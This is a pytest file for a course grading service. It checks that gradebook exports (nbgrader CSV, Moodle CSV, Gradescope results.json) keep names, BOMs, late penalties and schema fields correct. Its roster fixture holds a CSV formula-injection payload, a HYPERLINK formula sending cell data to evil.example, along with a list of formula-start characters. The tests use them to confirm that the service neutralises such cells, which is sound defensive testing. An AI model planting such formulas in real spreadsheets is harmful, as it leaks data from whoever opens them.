"""Exports that open (issue 9) and CSV formula injection (issue 13, finding 15): the BOM CSV
decoded as Excel decodes it, names split as the roster gives them, nbgrader's header, Moodle's
import columns, Gradescope ``results.json`` from the one formatter. Real app, real SQLite, the
structural grade function."""

from __future__ import annotations

import csv
import io
import json

import fixture_course
import pytest
import structural_grader as structural
from fastapi.testclient import TestClient

from grader.service import auth
from grader.service.app import create_app
from grader.service.config import ServiceConfig
from grader.service.csv_cells import safe_cell
from grader.service.exports import MOODLE_ID_COLUMNS, gradescope
from grader.service.models import Result, Submission
from grader.service.worker import Worker, WorkerOptions

A = fixture_course.FIXTURE  # 6 points
BOM = b"\xef\xbb\xbf"
# nbgrader's CsvExportPlugin (nbgrader/plugins/export.py) writes exactly these columns
NBGRADER_HEADER = [
    "assignment",
    "duedate",
    "timestamp",
    "student_id",
    "last_name",
    "first_name",
    "email",
    "raw_score",
    "late_submission_penalty",
    "score",
    "max_score",
]
EVIL = '=HYPERLINK("http://evil.example/?"&D2,"click")'
ROSTER = (
    "student_id,family_name,given_name,email\n"
    "b001,山田,太郎,yamada@example.ac.jp\n"
    f'b002,"{EVIL.replace(chr(34), chr(34) * 2)}",@SUM(1+1),evil@example.ac.jp\n'
    "b003,,,\n"
)
ROSTER_NAME_ONLY = "student_id,name,email\nc001,Taro Yamada,taro@example.ac.jp\n"


@pytest.fixture
def svc(tmp_path):
    app = create_app(
        ServiceConfig(home=tmp_path / "home"),
        catalog_source=fixture_course.course,
        sandbox_mode="bwrap",
    )
    st = app.state.grader
    with st.sessions.begin() as s:
        instructor = auth.create_instructor_token(s)
    c = TestClient(app, headers={"Origin": "http://testserver"})  # a same-origin browser
    c.st = st
    c.ih = {"Authorization": f"Bearer {instructor}"}
    for roster in (ROSTER, ROSTER_NAME_ONLY):
        r = c.post(
            "/api/v1/instructor/roster",
            headers=c.ih,
            files={"roster": ("roster.csv", roster.encode())},
        )
        assert r.status_code == 200, r.text
    return c


def graded(c, student: str, late_days: int = 0) -> str:
    with c.st.sessions.begin() as s:
        tok = auth.create_token(s, student)
    r = c.post(
        "/api/v1/submissions",
        headers={"Authorization": f"Bearer {tok}"},
        data={"assignment_id": A},
        files={"notebook": ("hw.ipynb", fixture_course.notebook())},
    )
    assert r.status_code == 202, r.text
    sid = r.json()["id"]
    if late_days:
        with c.st.sessions.begin() as s:
            s.get(Submission, sid).late_days = late_days
    assert Worker(c.st.engine, structural.grade, WorkerOptions(max_jobs=1)).run() == 1
    return sid


def rows_of(raw: bytes, encoding: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode(encoding))))


def test_safe_cell_neutralises_formula_starts_only():
    for bad in ("=1+1", "+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert safe_cell(bad) == "'" + bad
    for fine in ("山田", "Taro", "b001", "", "a=b", 6.0):
        assert safe_cell(fine) == fine


def test_nbgrader_csv_header_split_names_bom_and_plain(svc):
    graded(svc, "b001")
    url = f"/api/v1/instructor/gradebook.csv?assignment_id={A}"
    excel = svc.get(url + "&bom=true", headers=svc.ih)
    plain = svc.get(url, headers=svc.ih)
    assert excel.headers["content-type"].startswith("text/csv")
    assert excel.content.startswith(BOM) and not plain.content.startswith(BOM)
    rows = rows_of(excel.content, "utf-8-sig")  # what Excel does with a BOM
    assert rows[0] == NBGRADER_HEADER
    assert rows_of(plain.content, "utf-8") == rows
    by = {r[3]: dict(zip(NBGRADER_HEADER, r, strict=True)) for r in rows[1:]}
    assert (by["b001"]["last_name"], by["b001"]["first_name"]) == ("山田", "太郎")
    assert by["b001"]["score"] == "6" and by["b003"]["score"] == "0"
    # only a full name on the roster: not split by guess, all of it in last_name
    assert (by["c001"]["last_name"], by["c001"]["first_name"]) == ("Taro Yamada", "")
    # formula injection: the cells start with a quote, the text is otherwise unchanged
    assert by["b002"]["last_name"] == "'" + EVIL and by["b002"]["first_name"] == "'@SUM(1+1)"
    # read with the wrong codec (what Excel does without a BOM) the name is mojibake
    assert "山田" not in plain.content.decode("cp932", errors="replace")


def test_gradebook_csv_and_moodle_csv_open_in_excel_without_formulas(svc):
    graded(svc, "b001")
    graded(svc, "b002", late_days=2)  # 10% of 6 per day: 4.8
    best = svc.get("/api/v1/instructor/gradebook/best.csv?bom=true", headers=svc.ih)
    assert best.content.startswith(BOM)
    table = rows_of(best.content, "utf-8-sig")
    by = {r[0]: r for r in table[1:]}
    assert by["b001"][1] == "山田 太郎" and by["b002"][1].startswith("'=HYPERLINK")

    moodle = svc.get("/api/v1/instructor/gradebook/moodle.csv?bom=true", headers=svc.ih)
    assert moodle.status_code == 200 and moodle.content.startswith(BOM)
    rows = rows_of(moodle.content, "utf-8-sig")
    ids = [
        a["id"]
        for a in svc.get("/api/v1/instructor/gradebook", headers=svc.ih).json()["assignments"]
    ]
    assert rows[0] == ["First name", "Last name", "ID number", "Email address", *ids]
    assert rows[0][:4] == MOODLE_ID_COLUMNS
    m = {r[2]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert (m["b001"]["First name"], m["b001"]["Last name"]) == ("太郎", "山田")
    assert m["b001"]["Email address"] == "yamada@example.ac.jp" and m["b001"][A] == "6"
    assert m["b002"][A] == "4.8" and m["b002"]["Last name"] == "'" + EVIL
    assert m["b003"][A] == ""  # no grade, not a zero
    plain = svc.get("/api/v1/instructor/gradebook/moodle.csv", headers=svc.ih)
    assert rows_of(plain.content, "utf-8") == rows and not plain.content.startswith(BOM)


# The fields of Gradescope's autograder results.json specification
# (https://gradescope-autograders.readthedocs.io/en/latest/specs/): top level and per test.
GS_TOP = {
    "score": (int, float),
    "execution_time": (int, float),
    "output": str,
    "output_format": str,
    "test_output_format": str,
    "test_name_format": str,
    "visibility": str,
    "stdout_visibility": str,
    "extra_data": dict,
    "tests": list,
    "leaderboard": list,
}
GS_TEST = {
    "score": (int, float),
    "max_score": (int, float),
    "status": str,
    "name": str,
    "name_format": str,
    "number": str,
    "output": str,
    "output_format": str,
    "tags": list,
    "visibility": str,
    "extra_data": dict,
}


def validate_gradescope(doc: dict) -> None:
    assert set(doc) <= set(GS_TOP), set(doc) - set(GS_TOP)
    assert "score" in doc or all("score" in t for t in doc.get("tests", []))
    for key, value in doc.items():
        assert isinstance(value, GS_TOP[key]), (key, value)
    for test in doc.get("tests", []):
        assert set(test) <= set(GS_TEST), set(test) - set(GS_TEST)
        for key, value in test.items():
            assert isinstance(value, GS_TEST[key]), (key, value)
        assert test.get("status", "passed") in ("passed", "failed")
        assert test["score"] <= test["max_score"]


def test_gradescope_results_json_one_formatter_valid_penalty_applied(svc):
    on_time, late = graded(svc, "b001"), graded(svc, "b002", late_days=2)
    with svc.st.sessions() as s:
        payload = json.loads(s.get(Result, s.get(Submission, on_time).current_result_id).payload)
    for lang in ("ja", "en"):
        doc = svc.get(
            f"/api/v1/instructor/submissions/{on_time}/results.json?lang={lang}", headers=svc.ih
        ).json()
        validate_gradescope(doc)
        assert doc == gradescope(payload, lang)  # exactly what grader grade --gradescope writes
        assert doc["score"] == 6 and {t["status"] for t in doc["tests"]} == {"passed"}
    late_doc = svc.get(
        f"/api/v1/instructor/submissions/{late}/results.json?lang=en", headers=svc.ih
    ).json()
    validate_gradescope(late_doc)
    assert late_doc["score"] == pytest.approx(4.8) and "Late penalty: -1.2" in late_doc["output"]
    ja = svc.get(f"/api/v1/instructor/submissions/{late}/results.json", headers=svc.ih).json()
    assert "遅延減点" in ja["output"]
    # the per-assignment index carries the same document for each student
    index = svc.get(f"/api/v1/instructor/gradebook/{A}/gradescope.json", headers=svc.ih).json()
    by = {e["student_id"]: e["results"] for e in index["submissions"]}
    assert by["b001"] == gradescope(payload, "ja")
    r = svc.get("/api/v1/instructor/submissions/nope/results.json", headers=svc.ih)
    assert r.status_code == 404 and r.json()["error"]["code"] == "submission_not_found"


def test_validator_rejects_what_gradescope_would_not_read():
    with pytest.raises(AssertionError):
        validate_gradescope({"score": 1, "submissions": []})  # the old bundle's shape
    with pytest.raises(AssertionError):
        validate_gradescope({"tests": [{"name": "x", "score": 2, "max_score": 1}]})


def test_roster_token_list_neutralises_formula_names_too():
    from grader.service.auth import RosterEntry, tokens_csv

    text = tokens_csv([(RosterEntry("b002", EVIL, "e@example.ac.jp"), "gt_abc")])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["student_id", "name", "email", "token"],
        ["b002", "'" + EVIL, "e@example.ac.jp", "gt_abc"],
    ]


def test_cli_writes_one_gradescope_results_json_per_notebook(tmp_path):
    """grader grade --gradescope: each notebook's file is exactly the service's document
    (the one formatter), and valid against Gradescope's fields."""
    from argparse import Namespace

    from grader.commands.grade import write_exports

    outs = {n: structural.grade(A, fixture_course.notebook(), 0).payload for n in ("alice", "bob")}
    outcomes = [{"name": n, "result": r} for n, r in outs.items()]
    args = Namespace(gradescope=tmp_path / "gs", prairielearn=None, lang="en")
    write_exports(args, outcomes)
    for name, result in outs.items():
        doc = json.loads((tmp_path / "gs" / name / "results.json").read_text())
        validate_gradescope(doc)
        assert doc == gradescope(result, "en")
    one = Namespace(gradescope=tmp_path / "one.json", prairielearn=None, lang="ja")
    write_exports(one, outcomes[:1])
    assert json.loads((tmp_path / "one.json").read_text()) == gradescope(outs["alice"], "ja")
